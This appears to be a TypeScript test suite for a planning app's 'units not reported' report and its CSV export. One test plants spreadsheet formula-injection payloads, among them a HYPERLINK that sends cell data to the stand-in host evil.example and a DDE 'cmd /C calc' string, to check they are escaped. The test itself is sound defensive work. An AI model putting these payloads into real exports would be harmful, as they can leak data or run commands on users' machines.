import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import type { Indicator, Item, Plan } from '../../../src/core/plan/plan.types';
import { loadPlan } from '../../../src/core/plan/load';
import { notReportedCsv, unitsNotReported } from '../../../src/core/web/not-reported';
import { clone, indexOf, sampleText } from '../../helpers/plan';

const raw = JSON.parse(sampleText()) as Plan;
const sample = loadPlan(sampleText()).index!;

/** Straight from the JSON: the measured lines of each unit and whether the year has an annual actual. */
function missingByUnit(p: Plan, year: string): Map<string, string[]> {
  const out = new Map<string, string[]>();
  const check = (unit: string | undefined, ref: string, x: Indicator | Item) => {
    if (unit === undefined || typeof x.actuals?.[year] === 'number') return;
    out.set(unit, [...(out.get(unit) ?? []), ref]);
  };
  for (const i of p.indicators) {
    if (i.items?.length) i.items.forEach((it) => check(i.unit, `${i.id}.${it.id}`, it));
    else check(i.unit, i.id!, i);
  }
  return out;
}

describe('unitsNotReported over the Qazvin sample', () => {
  test('1403: exactly the lines without an actual, grouped by unit, units sorted by title', () => {
    const rows = unitsNotReported(sample, '1403');
    const expected = missingByUnit(raw, '1403');
    expect(new Map(rows.map((r) => [r.unit, r.lines.map((l) => l.ref)]))).toEqual(expected);
    expect(rows.every((r) => r.lines.length > 0 && r.lines.length <= r.total)).toBe(true);
    const titles = new Map(raw.units!.map((u) => [u.id, u.title]));
    expect(rows.every((r) => r.unitTitle === titles.get(r.unit))).toBe(true);
    const collator = new Intl.Collator('fa');
    for (let i = 1; i < rows.length; i++) expect(collator.compare(rows[i - 1].unitTitle, rows[i].unitTitle)).toBeLessThanOrEqual(0);
    // an item's row names the item; a line without items names the indicator
    const budget = rows.find((r) => r.unit === 'budget-office');
    if (budget) for (const l of budget.lines) expect(l.title.length).toBeGreaterThan(0);
  });

  test('1404, which nobody has reported: every unit with lines, every line', () => {
    const rows = unitsNotReported(sample, '1404');
    const unitsWithLines = new Set(raw.indicators.map((i) => i.unit));
    expect(new Set(rows.map((r) => r.unit))).toEqual(unitsWithLines);
    expect(rows.every((r) => r.lines.length === r.total)).toBe(true);
    expect(rows.reduce((n, r) => n + r.lines.length, 0)).toBe(raw.indicators.reduce((n, i) => n + (i.items?.length || 1), 0));
  });

  test('a unit that has reported everything is not listed', () => {
    const p = clone(raw);
    for (const i of p.indicators.filter((x) => x.unit === 'budget-office')) {
      if (i.items?.length) i.items.forEach((it) => (it.actuals = { ...it.actuals, '1404': 1 }));
      else i.actuals = { ...i.actuals, '1404': 1 };
    }
    const rows = unitsNotReported(indexOf(p), '1404');
    expect(rows.map((r) => r.unit)).not.toContain('budget-office');
    expect(rows.length).toBe(new Set(raw.indicators.map((i) => i.unit)).size - 1);
  });

  test('a year reported through its halves counts as reported', () => {
    const p = clone(raw);
    const ind = p.indicators.find((i) => i.id === '1-7-5-2')!;
    ind.actuals = { '1404-H1': 30 };
    const refs = unitsNotReported(indexOf(p), '1404').flatMap((r) => r.lines.map((l) => l.ref));
    expect(refs).not.toContain('1-7-5-2');
    expect(unitsNotReported(indexOf(p), '1404-H2').flatMap((r) => r.lines.map((l) => l.ref))).toContain('1-7-5-2');
  });

  test('a period outside the plan is an error, not an empty list', () => {
    expect(() => unitsNotReported(sample, '1399')).toThrow(RangeError);
  });

  test('property: the rows hold exactly the lines whose actual was removed or never given', () => {
    const lineCount = raw.indicators.reduce((n, i) => n + (i.items?.length || 1), 0);
    fc.assert(
      fc.property(fc.uniqueArray(fc.nat({ max: lineCount - 1 }), { maxLength: 60 }), (drop) => {
        const p = clone(raw);
        const byRef = p.indicators.flatMap((i) => (i.items?.length ? i.items.map((it) => it as Indicator | Item) : [i]));
        for (const k of drop) delete byRef[k].actuals?.['1402'];
        const rows = unitsNotReported(indexOf(p), '1402');
        const expected = [...missingByUnit(p, '1402').values()].reduce((n, l) => n + l.length, 0);
        expect(rows.reduce((n, r) => n + r.lines.length, 0)).toBe(expected);
      }),
      { numRuns: 15 },
    );
  });
});

describe('notReportedCsv', () => {
  const crlfRows = (csv: string) => parse(csv, { relax_column_count: false }) as string[][];

  test('a header in the language, then one row per missing line: unit, unit title, ref, line title', () => {
    const rows = unitsNotReported(sample, '1403');
    const fa = notReportedCsv(rows, 'fa');
    const en = notReportedCsv(rows, 'en');
    expect(crlfRows(fa)[0]).toEqual(['واحد', 'عنوان واحد', 'سطر', 'عنوان سطر']);
    expect(crlfRows(en)[0]).toEqual(['unit', 'unit title', 'line', 'line title']);
    const body = crlfRows(en).slice(1);
    expect(body.length).toBe(rows.reduce((n, r) => n + r.lines.length, 0));
    expect(body[0]).toEqual([rows[0].unit, rows[0].unitTitle, rows[0].lines[0].ref, rows[0].lines[0].title]);
    // RFC 4180 line breaks, and nothing before the header (the page adds the byte order mark)
    expect(en.split('\r\n').length).toBe(body.length + 2);
    expect(en.startsWith('unit,')).toBe(true);
  });

  test('no cell can run as a formula; commas, quotes and line breaks survive', () => {
    const p = clone(raw);
    p.units!.find((u) => u.id === 'budget-office')!.title = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const items = p.indicators.find((i) => i.id === '1-7-3-5')!.items!;
    items[0].title = '+SUM(1,2)';
    items[1].title = '-2+3+cmd|\' /C calc\'!A0';
    items[2].title = '@SUM(A1:A9)';
    const i2 = p.indicators.find((i) => i.id === '1-7-5-2')!;
    i2.title = 'درآمد، "پایدار"\nسطر دوم';
    for (const x of [...items, i2]) delete x.actuals?.['1403'];
    const tab = p.indicators.find((i) => i.unit === 'human-capital' && !i.items?.length)!;
    tab.title = '\t=1+1';
    delete tab.actuals?.['1403'];
    const csv = notReportedCsv(unitsNotReported(indexOf(p), '1403'), 'fa');
    const cells = crlfRows(csv).flat();
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(cells).toContain("'+SUM(1,2)");
    expect(cells).toContain('\'-2+3+cmd|\' /C calc\'!A0');
    expect(cells).toContain("'@SUM(A1:A9)");
    expect(cells).toContain("'\t=1+1");
    expect(cells).toContain('درآمد، "پایدار"\nسطر دوم');
    // refs that begin with a digit are left as they are
    expect(cells).toContain('1-7-5-2');
  });
});
